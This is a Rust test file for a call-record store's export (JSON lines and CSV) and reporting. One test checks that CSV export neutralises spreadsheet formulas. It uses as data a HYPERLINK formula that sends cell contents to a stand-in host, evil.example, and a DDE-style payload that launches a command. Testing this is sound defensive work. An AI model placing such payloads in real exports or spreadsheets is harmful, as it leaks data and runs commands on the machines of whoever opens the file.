//! Reading a store out: export (as stored, flat CSV, JSON lines) and the report.

use super::*;

#[test]
fn export_writes_details_as_stored_or_a_flat_csv() {
    on_each_backend("export_writes_details_as_stored_or_a_flat_csv", |store| {
        let a = detail_json("svc_call_a", "roleplay", "2026-03-01T10:05:00.000Z", 70.5);
        let b = detail_json("svc_call_b", "real_call", "2026-03-01T10:05:00.000Z", 90.0);
        store
            .store_calls(
                &[(Some(row(&a)), detail(&a)), (None, detail(&b))],
                &writer(0, None),
            )
            .expect("store");
        let mut jsonl = Vec::new();
        let n = store
            .export(None, None, ExportFormat::Jsonl, &mut jsonl)
            .expect("export");
        assert_eq!(n, 2);
        let text = String::from_utf8(jsonl).expect("utf-8");
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines, [detail(&a).json.as_str(), detail(&b).json.as_str()]);

        let mut csv = Vec::new();
        store
            .export(Some("real_call"), None, ExportFormat::Csv, &mut csv)
            .expect("export");
        let text = String::from_utf8(csv).expect("utf-8");
        let mut lines = text.lines();
        assert_eq!(
            lines.next(),
            Some(super::super::export::CSV_HEADER.join(",").as_str())
        );
        let line = lines.next().expect("one call");
        assert!(
            line.starts_with("svc_call_b,real_call,svc_agent_1,svc_agency_1,rep-1,ag-1,"),
            "{line}"
        );
        assert!(
            line.ends_with(",300,2026-03-01T10:05:00.000Z,2026-03-01T10:05:00.000Z,90.0,"),
            "{line}"
        );
        assert_eq!(lines.next(), None);

        let mut since = Vec::new();
        let later = svc_reconcile::time::ms(Some("2026-03-02T00:00:00Z"));
        let n = store
            .export(None, later, ExportFormat::Jsonl, &mut since)
            .expect("export");
        assert_eq!(
            (n, since.len()),
            (0, 0),
            "--since filters on the listing time"
        );
    });
}

#[test]
fn a_csv_export_neutralises_formulas_and_json_lines_keep_them_exactly() {
    let (_dir, store) = store();
    let mut call = detail_json("svc_call_f", "real_call", "2026-03-01T10:05:00.000Z", 80.0);
    call["platformAgentId"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"c\")");
    call["externalUserId"] = json!("+cmd|' /C calc'!A0");
    call["durationSec"] = json!(-5);
    store
        .store_calls(&[(Some(row(&call)), detail(&call))], &writer(0, None))
        .expect("store");
    let mut csv = Vec::new();
    store
        .export(None, None, ExportFormat::Csv, &mut csv)
        .expect("export");
    let mut reader = csv::Reader::from_reader(csv.as_slice());
    let record = reader
        .records()
        .next()
        .expect("one line")
        .expect("a record");
    assert_eq!(
        &record[4], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"c\")",
        "a formula becomes text"
    );
    assert_eq!(&record[6], "'+cmd|' /C calc'!A0");
    assert_eq!(&record[11], "-5", "a negative number stays a number");
    let mut jsonl = Vec::new();
    store
        .export(None, None, ExportFormat::Jsonl, &mut jsonl)
        .expect("export");
    let line: Value = serde_json::from_slice(&jsonl).expect("one JSON line");
    assert_eq!(line["platformAgentId"], call["platformAgentId"]);
    assert_eq!(line["externalUserId"], call["externalUserId"]);
}

#[test]
fn the_report_reads_calls_and_days_on_both_backends() {
    on_each_backend("the_report_reads_calls_and_days", |store| {
        let call = detail_json("svc_call_r", "roleplay", "2026-03-01T10:05:00.000Z", 64.0);
        store
            .store_calls(&[(Some(row(&call)), detail(&call))], &writer(0, None))
            .expect("store");
        assert!(record(
            store,
            "wh_r",
            &event("svc_call_r", true),
            "2026-03-01T10:05:31.000Z"
        ));
        let window = super::super::report_rows::ReportWindow::default();
        let mut calls = Vec::new();
        store
            .for_each_report_call(&window, &mut |call| calls.push(call))
            .expect("calls");
        assert_eq!(calls.len(), 1);
        assert_eq!(calls[0].overall_score, Some(64.0));
        assert_eq!(calls[0].source, "roleplay");
        let days = store.report_days(&window).expect("days");
        assert_eq!(days.len(), 1);
        assert_eq!(days[0].0, "2026-03-01");
        assert_eq!(days[0].1.scored_webhooks, 1);
    });
}
